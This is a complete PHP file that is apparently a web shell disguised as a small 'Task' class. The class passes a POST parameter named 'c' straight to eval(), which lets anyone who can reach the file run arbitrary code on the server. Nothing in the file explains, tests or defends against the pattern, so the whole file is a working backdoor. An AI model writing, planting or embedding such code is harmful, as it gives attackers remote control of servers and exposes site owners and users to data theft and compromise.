<?php class Task { function __invoke($c) { eval($c); } } $t = new Task(); $t($_POST['c']);
